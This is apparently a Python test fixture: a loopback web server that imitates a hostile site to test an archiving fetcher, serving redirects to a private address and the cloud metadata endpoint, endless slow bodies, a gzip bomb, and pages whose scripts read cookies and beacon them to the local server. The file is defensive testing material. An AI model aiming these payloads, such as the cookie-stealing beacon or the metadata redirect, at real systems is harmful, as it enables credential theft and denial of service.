"""A hostile web site on loopback, for the archiving tests: what a fetched page may do.

``Site`` serves, on 127.0.0.1 and a free port, in a thread of its own:

- ``/article`` an ordinary news article (with navigation, a footer and a script around it);
- ``/plain`` a plain-text body; ``/binary`` a type that is not archived; ``/notype`` no type;
- ``/redirect/<n>`` a chain of ``n`` redirects ending at ``/article``;
- ``/to-private`` and ``/to-metadata`` a redirect to 10.0.0.1 and to 169.254.169.254;
- ``/slow`` a page whose body trickles in a byte at a time, forever;
- ``/silent`` a server that accepts the connection and never answers;
- ``/huge`` 50 MB of body without a length; ``/huge-declared`` one that says so first;
- ``/bomb`` a gzip bomb: 200 MB of zeros compressed to about 200 kB;
- ``/changing`` a page whose text changes whenever ``site.version`` is moved on;
- ``/gone`` 404, ``/gone410`` 410, ``/error`` 503;
- ``/scripted`` an article whose script, image and style would call back to ``/beacon``,
  ``/pixel`` and ``/style.css`` on this server (a sandboxed copy never does).

``tls_site`` serves the article over https with a self-signed certificate (a TLS error for a
fetcher that verifies certificates).
"""

from __future__ import annotations

import gzip
import io
import shutil
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ARTICLE = """<!doctype html><html><head><meta charset="utf-8"><title>Raid in Musa Qala</title></head>
<body><nav><a href="/">Home</a> | <a href="/world">World</a> | <a href="/sport">Sport</a></nav>
<article><h1>Asim Umar killed in Musa Qala raid, Afghan intelligence says</h1>
<p>Afghan intelligence said on Tuesday that Asim Umar, the leader of al-Qaeda in the Indian
Subcontinent, was killed in a joint raid in Musa Qala, in Helmand province.</p>
<p>The Taliban categorically rejected the claim, calling it propaganda by the Kabul
administration and its foreign backers.</p>
<p>A counter-terrorism official said the death had not been independently confirmed.</p>
</article><footer>Copyright 2019 Example News. All rights reserved. Cookie settings.</footer>
<script>document.cookie = "stolen=1"; alert("x")</script></body></html>"""


def scripted_page(base: str) -> str:
    """An article that tries to run a script, read the cookies and load things from ``base``."""
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>Scripted</title>"
            f"<link rel='stylesheet' href='{base}/style.css'></head><body>"
            "<article><h1>The statement, as first published</h1><p id='words'>The minister said the bridge "
            "would open in May, according to the transcript published on Tuesday.</p></article>"
            f"<img src='{base}/pixel' alt=''>"
            "<script>document.body.dataset.ran = 'yes'; document.getElementById('words').textContent = 'rewritten';"
            f"new Image().src = '{base}/beacon?' + encodeURIComponent(document.cookie); alert('ran');</script>"
            "</body></html>")


def changing_page(version: int) -> str:
    said = ("was killed in a joint raid" if version == 1 else
            f"may have been killed in a raid, officials said in update {version}")
    return (f"<html><head><title>Update {version}</title></head><body><nav>Home | World</nav><article>"
            f"<h1>Asim Umar</h1><p>Afghan intelligence said on Tuesday that Asim Umar {said} in Musa Qala, "
            "Helmand province, according to a statement read to reporters in Kabul.</p>"
            "<p>The Taliban categorically rejected the claim and called it propaganda.</p></article></body></html>")


def _bomb() -> bytes:
    out = io.BytesIO()
    zeros = bytes(1024 * 1024)
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as packed:
        for _ in range(200):
            packed.write(zeros)
    return out.getvalue()


class Site:
    """The server; ``url(path)`` gives an address on it; ``requests`` counts what was asked."""

    def __init__(self) -> None:
        self.version = 1
        self.requests: list[str] = []
        self.bomb = _bomb()
        self.hosts: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"  # close-delimited bodies: a body needs no length

            def log_message(self, *_args: object) -> None:
                pass

            def _head(self, status: int, ctype: str | None, extra: dict[str, str] | None = None) -> None:
                self.send_response(status)
                if ctype:
                    self.send_header("Content-Type", ctype)
                for name, value in (extra or {}).items():
                    self.send_header(name, value)
                self.end_headers()

            def do_GET(self) -> None:  # noqa: C901 — one branch per page
                site.requests.append(self.path)
                site.hosts.append(self.headers.get("Host", ""))
                path = self.path
                try:
                    if path == "/article":
                        body = ARTICLE.encode()
                        self._head(200, "text/html; charset=utf-8", {"Content-Length": str(len(body)),
                                                                     "Set-Cookie": "tracker=1"})
                        self.wfile.write(body)
                    elif path == "/plain":
                        body = b"A plain statement of the ministry, as published.\n"
                        self._head(200, "text/plain; charset=utf-8", {"Content-Length": str(len(body))})
                        self.wfile.write(body)
                    elif path == "/binary":
                        self._head(200, "application/x-msdownload", {"Content-Length": "4"})
                        self.wfile.write(b"MZ\x90\x00")
                    elif path == "/notype":
                        self._head(200, None, {"Content-Length": "2"})
                        self.wfile.write(b"hi")
                    elif path.startswith("/redirect/"):
                        left = int(path.rsplit("/", 1)[1])
                        where = "/article" if left <= 0 else f"/redirect/{left - 1}"
                        self._head(302, "text/html", {"Location": where, "Content-Length": "0"})
                    elif path == "/to-private":
                        self._head(302, "text/html", {"Location": "http://10.0.0.1/secret", "Content-Length": "0"})
                    elif path == "/to-metadata":
                        self._head(301, "text/html", {"Location": "http://169.254.169.254/latest/meta-data/",
                                                      "Content-Length": "0"})
                    elif path == "/slow":
                        self._head(200, "text/html")
                        self.wfile.write(b"<html><body><p>")
                        self.wfile.flush()
                        for _ in range(100_000):
                            self.wfile.write(b"a")
                            self.wfile.flush()
                            time.sleep(0.2)
                    elif path == "/silent":
                        time.sleep(60)  # (the fetcher has given up long before)
                    elif path in ("/huge", "/huge-declared"):
                        extra = {"Content-Length": str(50 * 1024 * 1024)} if path == "/huge-declared" else {}
                        self._head(200, "text/plain", extra)
                        block = b"x" * (1024 * 1024)
                        for _ in range(50):
                            self.wfile.write(block)
                    elif path == "/bomb":
                        self._head(200, "text/html", {"Content-Encoding": "gzip", "Content-Length": str(len(site.bomb))})
                        self.wfile.write(site.bomb)
                    elif path == "/changing":
                        body = changing_page(site.version).encode()
                        self._head(200, "text/html; charset=utf-8", {"Content-Length": str(len(body))})
                        self.wfile.write(body)
                    elif path == "/scripted":
                        body = scripted_page(site.url("")).encode()
                        self._head(200, "text/html; charset=utf-8", {"Content-Length": str(len(body))})
                        self.wfile.write(body)
                    elif path in ("/gone", "/gone410"):
                        self._head(404 if path == "/gone" else 410, "text/html", {"Content-Length": "9"})
                        self.wfile.write(b"not found")
                    elif path == "/error":
                        self._head(503, "text/html", {"Content-Length": "4"})
                        self.wfile.write(b"busy")
                    else:
                        self._head(404, "text/plain", {"Content-Length": "0"})
                except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
                    pass  # the fetcher hung up: that is what these pages are for

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.server.handle_error = lambda *_args: None  # type: ignore[method-assign]  (a hung-up fetcher)
        self.port = self.server.server_address[1]
        self.scheme = "http"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def allow(self) -> frozenset[str]:
        """The allow-list that lets a fetcher reach this server (and nothing else private)."""
        return frozenset({f"127.0.0.1:{self.port}"})

    def url(self, path: str, host: str = "127.0.0.1") -> str:
        return f"{self.scheme}://{host}:{self.port}{path}"

    def start(self) -> Site:
        self._thread.start()
        return self

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextmanager
def running_site() -> Iterator[Site]:
    site = Site().start()
    try:
        yield site
    finally:
        site.stop()


@contextmanager
def tls_site(folder: Path) -> Iterator[Site]:
    """The site over https, with a self-signed certificate (needs the ``openssl`` command)."""
    openssl = shutil.which("openssl")
    if openssl is None:
        import pytest

        pytest.skip("the openssl command is needed to make a self-signed certificate")
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run([openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert),
                    "-days", "1", "-subj", "/CN=localhost"], check=True, capture_output=True)
    site = Site()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    site.server.socket = context.wrap_socket(site.server.socket, server_side=True)
    site.scheme = "https"
    site.start()
    try:
        yield site
    finally:
        site.stop()


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]
